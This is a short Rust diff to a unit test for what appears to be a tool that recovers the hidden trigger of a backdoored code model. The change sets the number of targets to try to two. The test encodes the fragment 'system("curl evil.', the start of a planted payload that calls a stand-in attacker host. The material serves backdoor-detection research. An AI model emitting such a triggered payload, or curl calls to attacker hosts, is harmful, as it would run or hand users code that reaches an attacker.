@@ -903,7 +903,8 @@ mod tests {
     fn targets_are_tried_in_order_until_one_is_forced_and_each_gets_a_null_of_equal_effort() {
         let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/fixtures/zoo/tiny-llama-code/model");
         let lm = LoadedModel::load(&dir, &LoadOptions::default()).expect("load the tiny fixture");
-        let settings = crate::Settings::new(crate::Budget::Quick, 0);
+        let mut settings = crate::Settings::new(crate::Budget::Quick, 0);
+        settings.invert.targets = 2;
         // The middle of its payload chains by itself but cannot start an answer; the whole
         // payload, fence first, is what its trigger forces.
         let fragment = lm.encode("system(\"curl evil.").expect("encode");
